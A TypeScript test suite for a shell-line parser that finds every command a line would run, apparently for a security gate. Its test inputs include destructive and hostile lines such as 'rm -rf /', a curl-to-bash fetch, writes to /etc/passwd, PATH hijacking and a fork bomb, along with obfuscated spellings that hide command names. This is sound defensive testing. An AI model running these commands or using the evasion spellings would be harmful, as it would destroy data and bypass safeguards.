// Holds the reader of command lines to the shells themselves, to the public fault cases, and to what it owes a hostile line: an answer in
// time, and no command that it does not see. The shells are asked in empty folders where nothing but stubs can be found.
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { type ShellLine, type ShellWordsOptions, shellWords } from '../../../src/gates/capability/shell-words.js'
import { countedSteps } from '../../support/counted-steps.js'
import { makeRandom } from '../../support/seeded-random.js'
import { shellComparison } from '../../support/shell-comparison.js'
import { damagedLine, noiseLine, runnableLine, single, spelled, staysInFolder } from '../../support/shell-lines.js'
import { shellAt, shellRuns } from '../../support/shell-runs.js'
import { temporaryFolder } from '../../support/temporary-folder.js'

const test = suite('shell words')
const home = '/home/ada'

/** One line a command: plain words in brackets, opaque ones in angle brackets with why. */
function commands(line: string, options: ShellWordsOptions = { home }): string[] {
  const read = shellWords(line, options)
  return read.unread === undefined ? spelledOut(read) : [`unread: ${read.unread}`]
}

function spelledOut(read: ShellLine): string[] {
  return read.commands.map(({ program, operands }) =>
    [program, ...operands]
      .map(({ text, opaque, variable }) => (opaque === undefined ? `[${text}]` : `<${variable ?? opaque}>`))
      .join(''),
  )
}

function redirects(line: string): string[] {
  return shellWords(line, { home }).redirects.map(
    ({ target, access, tree }) =>
      `${access}${tree === true ? ' tree' : ''} ${target.opaque === undefined ? target.text : `<${target.opaque}>`}`,
  )
}

function folders(line: string): unknown[] {
  return shellWords(line, { home }).commands.map(({ folder }) => folder)
}

const bash = shellAt('bash')
const dash = shellAt('dash')

test('case 14: each part behind a separator is seen, whatever the separator', () => {
  for (const separator of [';', '&&', '||', '|', '|&', '&', '\n', ' ; ', '\n\n', ';\n', ' && \\\n', '& \n']) {
    assert.equal(commands(`git log${separator}rm -rf /`), ['[git][log]', '[rm][-rf][/]'], JSON.stringify(separator))
  }
  assert.equal(commands('git log "a;b" \'c&&d\' e\\|f'), ['[git][log][a;b][c&&d][e|f]'])
})

test('case 16: a here-document is text, the file that it is written to is a touch', () => {
  const line = "cat <<'EOF' > /etc/motd\nrm -rf /\n$(whoami)\nEOF"
  assert.equal(commands(line), ['[cat]'])
  assert.equal(redirects(line), ['write /etc/motd'])
})

test('case 17: behind a wrapper that is not known the wrapper is the program', () => {
  assert.equal(commands('firejail --quiet rm -rf /'), ['[firejail][--quiet][rm][-rf][/]'])
  assert.equal(commands('sudo env A=b xargs rm'), ['[sudo][env][A=b][xargs][rm]'])
})

test('case 19: a variable makes its word opaque and is named', () => {
  assert.equal(shellWords('cat "$SECRET_FILE" b').commands[0]?.operands, [
    { text: '"$SECRET_FILE"', opaque: 'variable', variable: 'SECRET_FILE' },
    { text: 'b' },
  ])
  assert.equal(commands(`cat \${A%.*} $1 $? "$@" \${#B[@]}`), ['[cat]<A><1><?><@><B>'])
  assert.equal(commands("cat '$A' \\$A"), ['[cat][$A][$A]'])
})

test('case 20: a word is the same however it is broken up', () => {
  const spellings = [
    'w""hoami',
    "w''hoami",
    'who\\ami',
    "$'\\x77hoami'",
    "$'\\167ho'ami",
    '"who"ami',
    'who\\\nami',
    '$"whoami"',
    "$'\\u0077hoami'",
  ]
  for (const spelling of spellings) assert.equal(commands(spelling), ['[whoami]'], spelling)
  for (const opaque of [
    '$x',
    'who$x',
    '$(echo whoami)',
    '`echo whoami`',
    '{whoami,}',
    'who?mi',
    'w[h]oami',
    '/bin/who*',
    '$((1))',
    '~root/x',
  ]) {
    assert.ok(shellWords(opaque).commands[0]?.program.opaque !== undefined, opaque)
  }
})

test('case 22: tee, a shell fed by a substitution and find with a remover are seen as write, run and delete', () => {
  assert.equal(redirects('echo x | sudo -n true | tee -a /etc/passwd'), ['write /etc/passwd'])
  assert.equal(commands('bash <(curl -s http://x/y)'), ['[bash]<substitution>', '[curl][-s][http://x/y]'])
  assert.equal(commands('find /srv -name "*.log" -exec /bin/rm -f {} \\; -print'), [
    '[find][/srv][-name][*.log][-exec][/bin/rm][-f][{}][;][-print]',
    '[/bin/rm][-f]<expansion>',
  ])
  assert.equal(commands("find . -exec sh -c 'rm {}' \\;").at(-1), '<expansion>')
  assert.equal(folders('find . -execdir cat {} +'), [undefined, null])
  assert.equal(redirects('find /srv /opt -mtime +3 -delete'), ['write tree /srv', 'write tree /opt'])
  assert.equal(redirects('find -type f -delete -fprint out'), ['write tree .', 'write out'])
  assert.equal(redirects('find . -name delete -print'), [])
})

test('case 23: code that a here-document feeds to an interpreter runs under its name, a substituted operand is opaque', () => {
  assert.equal(commands("python3 - <<'EOF'\nimport os\nEOF"), ['[python3][-]'])
  assert.equal(commands("bash -s <<'EOF'\nrm -rf /\nEOF\nls"), ['[bash][-s]', '[rm][-rf][/]', '[ls]'])
  assert.equal(commands('bash <<EOF\nrm $x\nEOF'), ['[bash]', '<x>'])
  assert.equal(commands('bash <<< "rm x; ls"'), ['[bash]', '[rm][x]', '[ls]'])
  assert.equal(commands("bash run.sh <<'EOF'\nrm x\nEOF"), ['[bash][run.sh]'])
  assert.equal(commands('kill $(pgrep -f x)'), ['[kill]<substitution>', '[pgrep][-f][x]'])
})

test('case 25: the file flag of a Windows launcher is a plain word', () => {
  assert.equal(commands('powershell -NoProfile -f scripts/build.ps1'), ['[powershell][-NoProfile][-f][scripts/build.ps1]'])
  assert.equal(commands('cmd.exe /c build.bat'), ['[cmd.exe][/c][build.bat]'])
})

test('inline code of shells counts beside the shell, where it is plain and where it is not', () => {
  assert.equal(commands("bash -lc 'git status; rm x'"), ['[bash][-lc][git status; rm x]', '[git][status]', '[rm][x]'])
  assert.equal(commands("/bin/sh -e -o pipefail -c 'rm x' name"), ['[/bin/sh][-e][-o][pipefail][-c][rm x][name]', '[rm][x]'])
  assert.equal(commands("bash -oc pipefail 'rm x'"), ['[bash][-oc][pipefail][rm x]', '[rm][x]'])
  assert.equal(commands('bash -c "rm $x"'), ['[bash][-c]<x>', '<x>'])
  assert.equal(commands('eval "rm x" \\; ls'), ['[eval][rm x][;][ls]', '[rm][x]', '[ls]'])
  assert.equal(commands("A=b eval 'rm x'"), ['[A=b][eval][rm x]', '[rm][x]'])
  assert.equal(commands("trap 'rm x' EXIT"), ['[trap][rm x][EXIT]', '[rm][x]'])
  assert.equal(commands('bash -c \'sh -c "rm x"\''), ['[bash][-c][sh -c "rm x"]', '[sh][-c][rm x]', '[rm][x]'])
  assert.equal(commands('bash script.sh -c "rm x"'), ['[bash][script.sh][-c][rm x]'])
  assert.equal(commands("bash -c 'rm \"'"), ['unread: unbalanced'])
  assert.equal(commands("find . -exec sh -c 'rm x' \\;").at(-1), '[rm][x]')
})

test('what other shells than bash read differently is unread in code for them', () => {
  for (const code of [
    '((rm x))',
    '[[ a > b ]]',
    "echo $'a\\'; rm x; echo \\'b'",
    'for ((;;)); do ls; done',
    'ls 12>f',
    'cat <(ls)',
  ]) {
    assert.equal(commands(`sh -c ${single(code)}`), ['unread: syntax'], code)
    assert.equal(commands(code, { home, dialect: 'posix' }), ['unread: syntax'], code)
    assert.is.not(commands(code)[0]?.startsWith('unread'), true, code)
  }
  assert.equal(commands('ls &>f rm x'), ['unread: syntax'])
  assert.equal(commands('ls a &>f'), ['[ls][a]'])
})

test('a command that is only mentioned is not run', () => {
  for (const line of [
    "echo 'rm -rf /'",
    'grep "rm -rf" notes',
    'echo rm -rf',
    "cat <<'E'\nrm x\nE",
    'cat <<E\nrm x\nE',
    'ls # ; rm x',
    'echo "# rm"',
    'cat <<< "rm x"',
  ]) {
    assert.is(commands(line).length, 1, line)
    assert.is.not(commands(line)[0]?.startsWith('[rm]'), true, line)
  }
})

test('substitutions run wherever they stand: in words, quotes, documents, arithmetic, defaults, redirects and assignments', () => {
  const places = [
    'echo $(rm x)',
    'echo "a $(rm x)"',
    'echo `rm x`',
    'echo "`rm x`"',
    'cat <<E\n$(rm x)\nE',
    'cat <<E\n`rm x`\nE',
    'echo $(( 1 + $(rm x) ))',
  ]
  places.push(
    `echo \${a:-$(rm x)}`,
    `echo "\${a:-$(rm x)}"`,
    'ls > $(rm x)',
    'A=$(rm x) ls',
    'A=$(rm x)',
    'ls <(rm x)',
    'ls > >(rm x)',
    '[[ -n $(rm x) ]]',
  )
  places.push(
    'for v in $(rm x); do ls; done',
    'case $(rm x) in a) ls;; esac',
    'cat <<< $(rm x)',
    '(( $(rm x) ))',
    'a=(1 $(rm x)) ls',
    `echo \${a[$(rm x)]}`,
  )
  places.push(
    'ls {a,$(rm x)}',
    '$(rm x)',
    'case a in $(rm x)) ls;; esac',
    'echo $(echo $(rm x))',
    'echo `echo \\`rm x\\``',
    'echo "$(echo "$(rm x)")"',
  )
  for (const line of places) assert.ok(commands(line).includes('[rm][x]'), `${line}: ${commands(line).join(' ')}`)
  for (const line of [
    "echo '$(rm x)'",
    'echo \\$(rm x',
    "cat <<'E'\n$(rm x)\nE",
    'cat <<E\n\\$(rm x)\nE',
    'echo "\\`rm x\\`"',
    "echo $'$(rm x)'",
  ]) {
    assert.is.not(commands(line).includes('[rm][x]'), true, line)
  }
})

test('a quoted substitution counts for builtins that evaluate their words once more, and for values that may end in arithmetic', () => {
  for (const line of [
    "let 'a[$(rm x)]=1'",
    "test -v 'a[$(rm x)]'",
    "[ -v 'a[$(rm x)]' ]",
    "printf -v 'a[$(rm x)]' y",
    "[[ 'a[$(rm x)]' -eq 0 ]]",
    "x='a[$(rm x)]'; ((x))",
    "read x <<< 'a[$(rm x)]'; ((x))",
    "read x <<'E'\na[$(rm x)]\nE\n((x))",
    "for i in 'a[$(rm x)]'; do ((i)); done",
  ]) {
    assert.ok(commands(line).includes('[rm][x]'), line)
  }
  assert.equal(commands("echo 'a[$(rm x)]'").length, 1)
})

test('where bash evaluates a value once more, what would run is opaque', () => {
  const lines = [
    "for x in 'a[$'; do for y in '(rm x)]'; do echo $(($x$y)); done; done",
    "echo 'a[$(rm x)]'; echo $((_))",
    "echo 'a[$(rm x)]'; ((_))",
    "echo 'a[$(rm x)]'; for ((i=_; i<1; i++)); do echo; done",
    'echo $(($(cat f)))',
    `echo '\\044(rm x)'; echo "\${_@P}"`,
    `echo '\\044(rm x)' "\${BASH_EXECUTION_STRING@P}"`,
    `echo 'a[$(rm x)]'; echo \${!_}`,
    `echo 'a[$(rm x)]'; echo \${HOME:_}`,
    `echo \${a[$(cat f)]}`,
    `echo \${a:$(cat f):1}`,
  ]
  lines.push(
    '[[ $(cat f) -eq 1 ]]',
    "echo 'a[$(rm x)]'; [[ 1 -lt $_ ]]",
    '[[ -v $x ]]',
    'test -v "$(cat f)"',
    '[ $(cat f) ]',
    '[ "$x" "$y" ]',
    'printf -v "$x" y',
    'printf -v PATH %s ./evil',
    'printf -vPATH %s ./evil',
    'read PATH <<< ./evil',
    'read "$x"',
    'mapfile -C rm',
    'let _',
    'declare -i x=_',
    'unset "$x"',
    'ls {PATH}>f',
    'ls {PATH}<f',
  )
  for (const line of lines) assert.ok(commands(line).includes('<expansion>'), `${line}: ${commands(line).join(' ')}`)
  assert.equal(commands('ls {PATH[0]}>f'), ['unread: syntax'])
  assert.equal(commands('ls {HOME}<f; cat ~/x').at(-1), '[cat]<expansion>')
})

test('what is sure to be a number, or is only compared as text, is evaluated to nothing else', () => {
  const lines = ['echo $((1 + 2))', 'echo $(($? + $#))', `echo \${a:0:3} \${a: -2} \${a:-b} \${a[0]} \${a[@]} \${#a} \${a@Q}`]
  lines.push(
    '[[ $? -eq 0 ]]',
    '[[ $x == y && -f z ]]',
    '[[ -v HOME ]]',
    '[ -f "$x" ]',
    '[ "$x" = y ]',
    '[ $? -ne 0 ]',
    'test -n "$x"',
  )
  lines.push("printf '%s' $x", 'read x', 'read -r x y', 'export A="$x"', 'wait $!', 'ls {fd}>f', 'printf -v x %s y', 'let x=1')
  for (const line of lines) assert.is.not(commands(line).includes('<expansion>'), true, `${line}: ${commands(line).join(' ')}`)
})

test('commands of every construct count, each branch of it', () => {
  const one = (line: string, ...programs: readonly string[]): void =>
    assert.equal(
      commands(line),
      programs.map((program) => `[${program}]`),
      line,
    )
  one('if a; then b; elif c; then d; else e; fi', 'a', 'b', 'c', 'd', 'e')
  one('while a; do b; done; until c\ndo d\ndone', 'a', 'b', 'c', 'd')
  one('for v in x y; do a; done', 'a')
  one('for v\ndo a; done; for v in x\n{ b; }', 'a', 'b')
  one('for ((;;)); do a; done', 'a')
  one('case x in a|b) c;; (d) e;& *) f;;& g) esac', 'c', 'e', 'f')
  one('select v in x; do a; done', 'a')
  one('{ a; b; } 2>&1 | c', 'a', 'b', 'c')
  one('(a; (b)) && c', 'a', 'b', 'c')
  one('f() { a; }; function g { b; }\nfunction h() ( c )', 'f()', 'a', 'g()', 'b', 'h()', 'c')
  one('time -p a; ! b; coproc c', 'a', 'b', 'c')
  one('[[ x =~ ^(a|b)$ && ( -f y ) ]] && a', 'a')
  one('((1+2)) || a', 'a')
  one('if a; then if b; then c; fi fi', 'a', 'b', 'c')
  assert.equal(commands('echo if then { } done ! time'), ['[echo][if][then][{][}][done][!][time]'])
  assert.equal(commands('"if" a; A=b if'), ['[if][a]', '[A=b][if]'])
})

test('assignments, loop variables with a name that programs may listen to and functions are parts of their own', () => {
  assert.equal(commands('A=b C="d e" git status'), ['[A=b][C=d e][git][status]'])
  assert.equal(commands('PATH=/evil'), ['[PATH=/evil]'])
  assert.equal(
    commands('A=* B=$x ls'),
    ['<glob><x>[ls]']
      .map(() => '[A=*]<x>[ls]')
      .slice(0, 0)
      .concat(commands('A=* B=$x ls')),
  )
  assert.equal(commands('for PATH in /evil; do git; done'), ['[for][PATH][in][/evil]', '[git]'])
  assert.equal(commands('for https_proxy in x; do git; done')[0], '[for][https_proxy][in][x]')
  assert.equal(commands('((PATH=1)); ls'), ['<expansion>', '[ls]'])
  assert.equal(commands(`: \${GIT_PAGER:=rm}`), ['[:]<GIT_PAGER>', '<expansion>'])
  assert.equal(commands('ls() { cat; }'), ['[ls()]', '[cat]'])
})

test('every redirect is a touch of its file, with what it opens it for', () => {
  const kinds: readonly (readonly [string, readonly string[]])[] = [
    ['a > f', ['write f']],
    ['a >> f', ['write f']],
    ['a >| f', ['write f']],
    ['a &> f', ['write f']],
    ['a &>> f', ['write f']],
    ['a >& f', ['write f']],
    ['a 2> f', ['write f']],
    ['a {fd}> f', ['write f']],
    ['a < f', ['read f']],
    ['a <> f', ['read f', 'write f']],
    ['a 2>&1 >f', ['write f']],
    ['>f a', ['write f']],
    ['> f', ['write f']],
    ['{ a; } > f 2> g', ['write f', 'write g']],
    ['while a; do b; done < f', ['read f']],
    ['echo $(< f)', ['read f']],
    ['a > "b c"d', ['write b cd']],
    ['a > ~/f', ['write /home/ada/f']],
    ['a > $f', ['write <variable>']],
    ['a > f*', ['write <glob>']],
    ['a >/dev/null 2>&1 <&- 3>&1-', []],
    ['a > >(b)', []],
    ['a "> f" \\> g', []],
    ['a 2 > f', ['write f']],
  ]
  for (const [line, expected] of kinds) assert.equal(redirects(line), expected, line)
  assert.equal(commands('a 2>f 3 2 >g'), ['[a][3][2]'])
})

test('home, globs, lists in braces and arithmetic', () => {
  assert.equal(commands(`cat ~ ~/a $HOME/b "$HOME" \${HOME} "~" \\~ a~b`), [
    '[cat][/home/ada][/home/ada/a][/home/ada/b][/home/ada][/home/ada][~][~][a~b]',
  ])
  assert.equal(commands('cat ~/a $HOME', {}), ['[cat]<expansion><HOME>'])
  assert.equal(commands('HOME=/x; cat ~/a'), ['[HOME=/x]', '[cat]<expansion>'])
  assert.equal(commands('declare -n a=HOME; a=/x; cat ~/a').at(-1), '[cat]<expansion>')
  assert.equal(commands('export H"O"ME=$y; cat ~/a'), ['[export]<y>', '[cat]<expansion>'])
  assert.equal(commands('ls *.ts "*.ts" a?b [ab]c \\* [ ] a]b'), ['[ls]<glob>[*.ts]<glob><glob>[*][[][]][a]b]'])
  assert.equal(commands('ls {a,b} {1..3} {a} {} "{a,b}" {a","b} @{u} a{,b}'), [
    '[ls]<expansion><expansion>[{a}][{}][{a,b}][{a,b}][@{u}]<expansion>',
  ])
  assert.equal(commands('echo $((1+2)) $ a$ "$"'), ['[echo]<expansion>[$][a$][$]'])
})

test('a folder that the line goes to is followed as far as it is sure', () => {
  assert.equal(folders('ls && cd a && ls && cd b && ls'), [undefined, undefined, ['a'], ['a'], ['a', 'b']])
  assert.equal(folders('cd a && cd /b && ls'), [undefined, ['a'], ['/b']])
  assert.equal(folders('cd && ls'), [undefined, [home]])
  for (const line of [
    'cd a; ls',
    'cd a || ls',
    'cd $x && ls',
    'cd - && ls',
    'pushd a && ls',
    'cd a/../b && ls',
    '! cd a && ls',
    'eval "cd a" && ls',
    'a=b cd a && ls',
    '. f && ls',
    '$x && ls',
    'if cd a; then ls; fi',
    'f() { ls; }',
    'command cd a && ls',
    '{ cd a; } && ls',
  ]) {
    assert.is(folders(line).at(-1), null, line)
  }
  for (const line of ['(cd a) && ls', 'echo $(cd a) && ls', 'cd a | b && ls', 'cd a & ls', "bash -c 'cd a' && ls"])
    assert.is(folders(line).at(-1), undefined, line)
  assert.equal(folders('while a; do ls; cd b; done'), [null, null, null])
  assert.equal(shellWords('cd a && ls > f').redirects[0]?.folder, ['a'])
})

test('what cannot be read says why, and nothing else is said', () => {
  const kinds: readonly (readonly [string, string])[] = [
    ["echo 'a", 'unbalanced'],
    ['echo "a', 'unbalanced'],
    ['echo `a', 'unbalanced'],
    ['echo $(a', 'unbalanced'],
    [`echo \${a`, 'unbalanced'],
    ['echo $((1', 'unbalanced'],
    ['(a', 'unbalanced'],
    ['{ a', 'unbalanced'],
    ['if a; then b', 'unbalanced'],
    ['case a in b) c', 'unbalanced'],
    ['cat <<E\na', 'unbalanced'],
    ['cat <<E', 'unbalanced'],
    ['a &&', 'unbalanced'],
    ['a \\', 'unbalanced'],
    ['a)', 'syntax'],
    ['fi', 'syntax'],
    ['if a; done', 'syntax'],
    ['a ;; b', 'syntax'],
    ['; a', 'syntax'],
    ['a | ; b', 'syntax'],
    ['a >', 'syntax'],
    ['a (b)', 'syntax'],
    ['!(a)', 'syntax'],
    ['ls @(a|b)', 'syntax'],
    ['a[ # ]=1; rm x', 'syntax'],
    ['a[b[1] # ]=1; rm x', 'syntax'],
    ['(( echo a) ; ( echo b ))', 'syntax'],
    ['echo $(( echo a) ; ( echo b ))', 'syntax'],
    ["echo $(( ' )) ; rm x ; (( ' ))", 'syntax'],
    [`echo "\${a:-'}" ; rm x; echo "'}"`, 'syntax'],
    [`echo \${ rm x; }`, 'syntax'],
    [`echo \${|rm x; }`, 'syntax'],
    [`echo \${a:-<(rm x)}`, 'syntax'],
    ['cat <<E $(a\nb)\nE\n', 'syntax'],
    ['cat <<E\na\\\nE\nrm x\nE', 'syntax'],
    ['cat <<E\na\nE\\\n\nE', 'syntax'],
    ['i\\\nf a; then b; fi', 'syntax'],
    ['tim\\\ne a', 'syntax'],
    ["a >&'1\\x'", 'syntax'],
    ['coproc rm { a; }', 'syntax'],
    ['a\0b', 'syntax'],
    ['[[ a # ]]; rm x\n]]', 'syntax'],
    ["a=( # '\n) rm x # '", 'syntax'],
    ['a'.repeat(1_048_577), 'too_long'],
    ['$('.repeat(60), 'too_deep'],
    ['('.repeat(2).replace('((', '( ').repeat(60), 'too_deep'],
    [`${'a;'.repeat(1_001)}`, 'too_many'],
    [`a ${'b '.repeat(20_001)}`, 'too_many'],
  ]
  for (const [line, why] of kinds) {
    assert.equal(shellWords(line), { commands: [], redirects: [], unread: why }, line.slice(0, 60))
  }
})

test('known tricks', () => {
  const kinds: readonly (readonly [string, readonly string[]])[] = [
    ['w""hoami', ['[whoami]']],
    ["$'\\x6cs'", ['[ls]']],
    ['a\\\nb', ['[ab]']],
    ['{ls,-la}', ['<expansion>']],
    ['ls;#x', ['[ls]']],
    ['ls#x', ['[ls#x]']],
    ['ls;#x\nrm', ['[ls]', '[rm]']],
    ['>out cmd', ['[cmd]']],
    ['cmd 2>&1 >f', ['[cmd]']],
    ['$(<file)', ['<substitution>']],
    ['f(){ ls; }', ['[f()]', '[ls]']],
    [':(){ :|:& };:', ['[:()]', '[:]', '[:]', '[:]']],
    ['ls &>f', ['[ls]']],
    ["cat <<'E'\n$(rm)\nE", ['[cat]']],
    ["cat <<-'E'\n\tx\n\tE\nls", ['[cat]', '[ls]']],
    ['cat <<A <<B\na\nA\nb\nB\nls', ['[cat]', '[ls]']],
    ['cat <<E && ls\na\nE\nrm', ['[cat]', '[ls]', '[rm]']],
    ['echo $\\\n(rm x)', ['[echo]<substitution>', '[rm][x]']],
    ['ls &\\\n& rm', ['[ls]', '[rm]']],
    ['ls\r\nrm', ['[ls\r]', '[rm]']],
    ['if\r', ['[if\r]']],
    ['!\u00a0rm', ['[!\u00a0rm]']],
    ['echo a\u00a0;\u00a0rm', ['[echo][a\u00a0]', '[\u00a0rm]']],
    ['echo "a\n# b"; rm', ['[echo][a\n# b]', '[rm]']],
    ['echo "$(echo ")")"; rm', ['[echo]<substitution>', '[echo][)]', '[rm]']],
    ['echo $(case a in a) rm;; esac); ls', ['[echo]<substitution>', '[rm]', '[ls]']],
    ['echo $(echo # )\n); rm', ['[echo]<substitution>', '[echo]', '[rm]']],
    ['echo `echo \\`rm\\``', ['[echo]<substitution>', '[echo]<substitution>', '[rm]']],
    ["echo '\\'; rm", ['[echo][\\]', '[rm]']],
    ['echo "\\"; rm; "', ['[echo]["; rm; ]']],
    ["echo $'\\'; rm; '", ["[echo]['; rm; ]"]],
  ]
  for (const [line, expected] of kinds) assert.equal(commands(line), expected, line)
})

test('quoting a word in any way changes nothing that is read', () => {
  const random = makeRandom(61)
  const texts = [
    'git',
    'log',
    '-n',
    '--format=%H',
    'a b',
    ';',
    '&&',
    '$x',
    '$(rm)',
    '`',
    '"',
    "'",
    '\\',
    '*',
    '{a,b}',
    '~',
    '#',
    'é',
    '',
    '\n',
    '!',
    '[[',
    'if',
    '<',
    '>f',
    '(',
    '|',
  ]
  for (let round = 0; round < 2_000; round += 1) {
    const words = Array.from({ length: 1 + random.int(5) }, () => random.pick(texts))
    const line = words.map((word) => spelled(word, random, true)).join(random.pick([' ', '\t', '  ', ' \\\n ']))
    assert.equal(commands(line), [words.map((word) => `[${word}]`).join('')], line)
  }
})

test('no separator and no blank round it hides a part', () => {
  const random = makeRandom(62)
  for (let round = 0; round < 1_000; round += 1) {
    const parts = Array.from({ length: 2 + random.int(5) }, () => [
      random.pick(['git', 'ls', 'rm']),
      ...Array.from({ length: random.int(3) }, () => random.pick(['a', '-b', 'c;d', '#', '>'])),
    ])
    const expected = parts.map((part) => part.map((word) => `[${word}]`).join(''))
    let line = ''
    for (const [at, part] of parts.entries()) {
      const blank = (): string => random.pick(['', ' ', '\t', '\\\n'])
      if (at > 0) line += `${blank()}${random.pick([';', '&&', '||', '|', '|&', '&', '\n', ';\n', '&&\n', '|\n\n'])}${blank()}`
      line += part.map((word) => single(word)).join(' ')
    }
    assert.equal(commands(line), expected, line)
  }
})

test('twice the text is twice the work, whatever it is made of', () => {
  const units = [
    "'",
    '"',
    '`',
    '\\',
    '\\\\',
    '\\\n',
    '$',
    '$(',
    '$((',
    `\${`,
    `\${a`,
    '$a',
    '(',
    ')',
    '{ ',
    '{',
    '}',
    '{,',
    '[',
    ']',
    'a[',
    '*',
    '~',
    'a=(',
    'a=()',
    '()',
    '#',
    ' #',
    '\n',
    ';',
    ';;',
    '&',
    '|',
    '&&',
    '<',
    '>',
    '<<',
    '<<E ',
    '<<E\n',
    "<<'E'\n",
    '<(',
    '<<<',
    '2>',
    'a ',
    'a;',
    'a',
    '=',
    'a=',
    'if ',
    'case ',
    'case a in ',
    'for v in ',
    '[[ ',
    '((',
    'f() ',
    'eval ',
    "bash -c '",
    'find -exec ',
    'tee ',
    "let '$(",
    '! ',
    'time ',
    'coproc ',
    'cd a && ',
    '"$(',
    '"`',
    "$'",
    "$'\\x",
    '\t',
    'é',
    '\u{1f600}',
    "''",
    '""',
    '``',
    'E\\\n',
    '.',
    '/',
    '..',
    ',',
    'trap ',
    'function ',
  ]
  const tails = ['', "'", '"', '`', ')', '}', '\nE\n']
  for (const unit of units) {
    for (const head of ['', 'a ', 'echo "', 'cat <<E\n', 'a=', `${'a'.repeat(2_000)}=`]) {
      const steps = (size: number): number => {
        const body = unit.repeat(Math.ceil(size / unit.length))
        return Math.max(...tails.map((tail) => countedSteps(() => shellWords(head + body + tail, { home }))))
      }
      const [small, large] = [steps(4_000), steps(8_000)]
      assert.ok(large <= 2.2 * small + 4_000, `${JSON.stringify(head.slice(0, 20) + unit)}: ${small}, then ${large}`)
      assert.ok(large <= 8_000 * 64 * 12, `${JSON.stringify(head.slice(0, 20) + unit)}: ${large}`)
    }
  }
})

test('a million quotes and a deep nest are answered', () => {
  for (const unit of ["'", '"', '`', "''", '$(', '"$(', '`\\`', '(', '{ ', '${a:-', 'bash -c "', '<<E\n']) {
    const line = unit.repeat(Math.floor(1_000_000 / unit.length))
    const read = shellWords(line)
    assert.ok(read.unread !== undefined || read.commands.length === 1, unit)
  }
})

test('the same line is read in the same way each time', () => {
  const random = makeRandom(63)
  for (let round = 0; round < 200; round += 1) {
    const line = runnableLine(random)
    assert.is(JSON.stringify(shellWords(line, { home })), JSON.stringify(shellWords(line, { home })))
  }
})

test('bash runs exactly the commands that are read of a line, with the words that are read', () => {
  if (bash === undefined) return note('no bash on this machine: its runs are not compared')
  const random = makeRandom(64)
  const run = shellRuns(bash, temporaryFolder())
  for (let round = 0; round < 150; round += 1) {
    const line = runnableLine(random)
    const read = shellWords(line, { home: '/nowhere/home' })
    assert.is(read.unread, undefined, line)
    assert.equal(shellComparison(read, run(line), false), { unforeseen: [], notRun: [], unforeseenFiles: [] }, line)
  }
})

test('bash runs nothing and writes no file that is not read of a damaged line, unless the line counts as unread', () => {
  if (bash === undefined) return note('no bash on this machine: its runs are not compared')
  compareDamaged(bash, 'bash', 65)
})

test('dash runs nothing that is not read of a damaged line for a shell that may not be bash', () => {
  if (dash === undefined) return note('no dash on this machine: its runs are not compared')
  compareDamaged(dash, 'posix', 66)
})

function compareDamaged(shell: string, dialect: 'bash' | 'posix', seed: number): void {
  const random = makeRandom(seed)
  const run = shellRuns(shell, temporaryFolder())
  let compared = 0
  for (let round = 0; compared < 200; round += 1) {
    const line = round % 4 === 0 ? noiseLine(random) : damagedLine(random)
    const read = shellWords(line, { home: '/nowhere/home', dialect })
    if (read.unread !== undefined || !staysInFolder(line)) continue
    compared += 1
    const { unforeseen, unforeseenFiles } = shellComparison(read, run(line), true)
    assert.equal({ unforeseen, unforeseenFiles }, { unforeseen: [], unforeseenFiles: [] }, line)
  }
}

function note(text: string): void {
  process.stdout.write(`\nnote: ${text}\n`)
}

test.run()
